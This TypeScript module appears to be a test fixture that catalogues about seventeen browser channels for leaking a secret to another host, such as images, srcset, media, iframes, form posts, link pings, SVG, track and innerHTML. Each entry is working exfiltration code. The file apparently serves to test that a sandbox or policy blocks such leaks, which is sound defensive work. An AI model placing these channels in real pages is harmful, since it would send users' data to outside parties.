import type { Road } from './road.ts';

/** Roads by what stands in a page: pictures, sound, frames, forms. */
export const ELEMENT_ROADS: Readonly<Record<string, Road>> = {
  image: ({ foreign, secret }) => {
    new Image().src = foreign + secret;
  },
  'image of its own host': ({ own, secret }) => {
    new Image().src = own + secret;
  },
  srcset: ({ foreign, secret }) => {
    const image = document.body.appendChild(document.createElement('img'));
    image.srcset = `${foreign}${secret} 1x`;
  },
  video: ({ foreign, secret }) => {
    const video = document.body.appendChild(document.createElement('video'));
    video.src = foreign + secret;
    video.load();
  },
  audio: ({ foreign, secret }) => {
    const audio = document.body.appendChild(document.createElement('audio'));
    audio.preload = 'auto';
    audio.src = foreign + secret;
    audio.load();
  },
  object: ({ foreign, secret }) => {
    const object = document.createElement('object');
    object.data = foreign + secret;
    document.body.append(object);
  },
  embed: ({ foreign, secret }) => {
    const embed = document.createElement('embed');
    embed.src = foreign + secret;
    document.body.append(embed);
  },
  iframe: ({ foreign, secret }) => {
    const frame = document.createElement('iframe');
    frame.src = foreign + secret;
    document.body.append(frame);
  },
  'iframe of its own host': ({ own, secret }) => {
    const frame = document.createElement('iframe');
    frame.src = own + secret;
    document.body.append(frame);
  },
  'form into a frame': ({ foreign, secret }) => {
    const frame = document.createElement('iframe');
    frame.name = 'inside';
    const form = document.createElement('form');
    form.action = foreign + secret;
    form.target = 'inside';
    document.body.append(frame, form);
    form.submit();
  },
  ping: ({ foreign, secret }) => {
    const link = document.body.appendChild(document.createElement('a'));
    link.href = '#';
    link.ping = foreign + secret;
    link.click();
  },
  'SVG image': ({ foreign, secret }) => {
    const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
    const image = document.createElementNS('http://www.w3.org/2000/svg', 'image');
    image.setAttribute('href', foreign + secret);
    svg.append(image);
    document.body.append(svg);
  },
  track: ({ own, secret }) => {
    const video = document.body.appendChild(document.createElement('video'));
    const track = document.createElement('track');
    track.default = true;
    track.src = own + secret;
    video.append(track);
    track.track.mode = 'showing';
  },
  'picture of a button': ({ foreign, secret }) => {
    const input = document.createElement('input');
    input.type = 'image';
    input.src = foreign + secret;
    document.body.append(input);
  },
  'poster of a video': ({ foreign, secret }) => {
    const video = document.body.appendChild(document.createElement('video'));
    video.poster = foreign + secret;
  },
  'frame with its own document': ({ foreign, secret }) => {
    const frame = document.createElement('iframe');
    frame.srcdoc = `<img src="${foreign}${secret}">`;
    document.body.append(frame);
  },
  'HTML as text': ({ foreign, secret }) => {
    const box = document.body.appendChild(document.createElement('div'));
    // eslint-disable-next-line no-restricted-properties -- a road that a hostile script would try
    box.innerHTML = `<img src="${foreign}${secret}">`;
  },
};
